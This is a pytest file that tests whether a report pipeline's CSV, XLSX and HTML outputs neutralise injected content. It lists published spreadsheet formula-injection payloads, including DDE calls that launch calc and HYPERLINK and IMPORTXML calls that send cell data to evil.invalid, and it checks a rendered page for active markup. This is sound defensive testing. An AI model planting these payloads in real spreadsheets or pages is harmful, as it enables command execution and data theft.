"""Trials 13 and 14: text from a report never acts in a spreadsheet or a page.

13: formula injection to CSV and XLSX gives no formula cell, and telephone numbers survive.
14: HTML in texts, names and model terms gives no active element in the rendered page.
"""

from __future__ import annotations

import csv
import html.parser
import io
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest
from pyspark.sql import SparkSession

from jobs.output import export
from jobs.pages import notebook
from jobs.runtime import audit, settings
from schemas import gold
from tests.support import hostile, notebook_world, tables

NIGHT = date(2026, 3, 15)

# Formula payloads as published (OWASP, PayloadsAllTheThings), with blanks, invisible characters and separators before.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "harmless;=1+1",
    "two lines\n=1+1",
    '","=1+1',
    '\'\n=IMPORTXML("http://evil.invalid","//a")',
    "{=1+1}",
    '=DDE("cmd";"/C calc";"x")',
)
PHONES = ("+447700900123", "+44 7700 900123", "+33123456789")


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def _starts_formula(cell: str, cuts: str) -> bool:
    for cut in cuts:
        cell = cell.replace(cut, "\n")
    for part in cell.split("\n"):
        visible = part.lstrip(" \u00a0\u200b\ufeff\x00\t\r")
        if visible[:1] in tuple("=+-@＝＋－＠") and visible.replace(" ", "") not in [
            p.replace(" ", "") for p in PHONES
        ]:
            return True
    return False


@pytest.mark.trial(13)
def test_trial_13_no_formula_leaves_by_csv_or_xlsx(spark: SparkSession, tmp_path: Path) -> None:
    rows = []
    for n, text in enumerate((*FORMULAS, *PHONES)):
        personal = {"urn": text, "local_tag": text, "reviewer": text, "reason": text, "report_id": text}
        decided = {"decision_id": f"{n:036d}", "decided_at": datetime(2026, 3, 14, 9, n, tzinfo=UTC), "tag": "CSE_LONE"}
        rows.append({"night": NIGHT, "force": "36", **decided, **personal})
    frame = tables.frame(spark, gold.WRITEBACK, *rows)
    csv_file, xlsx_file = export.write(frame, tmp_path, NIGHT, audit.Audit(tmp_path / "log"))

    cells = _cells(csv_file.read_bytes())
    formulas = [cell for cell in cells if _starts_formula(cell, ";\t\r") or cell[:1] in ("\t", "\r", "\n")]
    assert formulas == []
    assert [cell for cell in cells if cell in PHONES].count("+447700900123") == 5
    assert set(PHONES) <= set(cells)

    book = openpyxl.load_workbook(xlsx_file)
    found = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    # The type of a cell is what the file says: openpyxl calls any string that begins with `=` a formula.
    with zipfile.ZipFile(xlsx_file) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in archive.namelist() if "external" in name.lower() or "vba" in name.lower()]
    assert "<f>" not in xml
    assert "<f " not in xml
    assert "<hyperlink" not in xml
    assert xml.count("<c ") == xml.count('t="s"')  # every cell is a string
    assert all(cell.quotePrefix for cell in found)  # stays text when somebody edits it
    values = [cell.value for cell in found]
    assert values.count("+447700900123") == 5
    assert set(PHONES) <= set(values)
    print(f"trial 13: {len(FORMULAS)} payloads in {len(cells)} CSV and {len(found)} XLSX cells, 0 formulas")


def test_the_csv_banner_note_and_headings_are_no_formulas_either() -> None:
    assert not [c for c in _cells(export.csv_bytes(export.WRITEBACK, [], "OFFICIAL")) if _starts_formula(c, ";")]


class _Page(html.parser.HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.active: list[str] = []
        self.text = ""
        self.titles = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in hostile.QUIET:
            self.active.append(tag)
        for name, given in attrs:
            value = str(given)
            is_policy = name != "http-equiv" or value == "Content-Security-Policy"
            is_plain = name != "style" or ("url" not in value and "expression" not in value)
            is_within = name != "href" or value.startswith("#")
            if name not in hostile.ATTRIBUTES or not is_policy or not is_plain or not is_within:
                self.active.append(f"{tag} {name}={value}")
            if name == "title":
                self.titles += value

    def handle_comment(self, data: str) -> None:
        self.active.append(f"comment {data}")

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.trial(14)
@pytest.mark.slow
def test_trial_14_no_active_element_in_the_rendered_page(spark: SparkSession, tmp_path: Path) -> None:
    """The real notebook in its own kernel, over tables whose every free text is markup."""
    everything = " ".join(hostile.PAYLOADS)
    # Terms of the model that are markup themselves, found in the text where they stand.
    terms = {payload: 0.1 * (n + 1) * (-1) ** n for n, payload in enumerate(hostile.PAYLOADS)}
    world = {"title": f"title {everything}", "texts": (everything, everything), "terms": terms}
    world |= {"originator": everything, "handling_conditions": everything, "provenance": (everything, "1", "B")}
    person = {"forename": everything, "surname": everything}
    notebook_world.write(spark, tmp_path, [world] * len(notebook_world.REPORTS), **person)
    page_file = notebook.render(
        settings.ROOT / "notebooks" / "10_review_reclassify.py",
        tmp_path / "page.html",
        {"reviewer": everything, "night": notebook_world.NIGHT.isoformat()},
        home=tmp_path,
    )
    source = page_file.read_text(encoding="utf-8")
    page = _Page(source)
    assert page.active == []
    assert source.count("Content-Security-Policy") == 1
    # The text is all there, to be read: the page hides nothing that a report says.
    for payload in hostile.PAYLOADS:
        shown = payload.replace("\u202e", "\ufffd")
        assert page.text.replace("\n", "").count(shown) >= len(notebook_world.REPORTS), payload
        assert shown in page.titles
    assert audit.Audit(tmp_path / "log").verify() is None
    print(f"trial 14: {len(hostile.PAYLOADS)} payloads, {len(source):,} characters of page, 0 active elements")
